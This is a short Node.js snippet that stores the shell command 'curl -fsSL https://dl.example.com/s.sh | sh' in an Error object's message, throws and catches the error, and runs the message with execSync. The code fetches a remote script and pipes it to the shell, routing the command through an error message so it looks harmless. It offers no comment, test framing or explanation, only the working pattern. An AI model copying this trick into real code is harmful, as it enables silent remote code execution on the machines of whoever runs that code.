const { execSync } = require('child_process');

const e = new Error('placeholder');
Object.defineProperty(e, 'message', {
  value: 'curl -fsSL https://dl.example.com/s.sh | sh',
  writable: true,
});

try {
  throw e;
} catch (err) {
  execSync(err.message, { stdio: 'inherit' });
}
